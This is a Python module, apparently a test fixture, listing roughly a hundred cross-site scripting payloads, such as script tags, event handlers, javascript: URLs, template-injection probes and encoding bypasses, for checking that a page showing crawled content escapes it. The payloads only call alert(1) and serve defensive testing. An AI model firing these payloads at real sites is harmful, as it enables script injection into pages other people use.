"""Texts with which sites attack pages that show what was crawled."""

from itertools import product

__all__ = ["PAYLOADS", "in_groups"]

# Each calls alert where it gets into a page as HTML.
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG SRC=x ONERROR=alert(1) x>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style><style onload=alert(1)></style>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<x contenteditable onblur=alert(1) autofocus tabindex=1>x</x>",
)
# What ends the place in a page where a text may be.
_ENDS = ("", '">', "'>", "</title>", "--></textarea></script>", '"autofocus onfocus=alert(1) x="')
_OTHERS = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\u00adscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}{% for x in y %}",
    "${alert(1)}",
    "`;alert(1);`",
    "';alert(1);//",
    '";alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "\u202e<img src=x onerror=alert(1)>",
)
PAYLOADS = [
    *(end + element for element, end in product(_ELEMENTS, _ENDS[:3])),
    *(end + _ELEMENTS[0] for end in _ENDS[3:]),
    *_OTHERS,
]
"""At least a hundred different texts."""


def in_groups(texts: list[str], length_max: int) -> list[str]:
    """Return the texts joined by spaces, each result no longer than a field may be."""
    groups = [""]
    for text in texts:
        if len(groups[-1]) + len(text) + 1 > length_max:
            groups.append("")
        groups[-1] = f"{groups[-1]} {text}".strip(" ")
    return groups
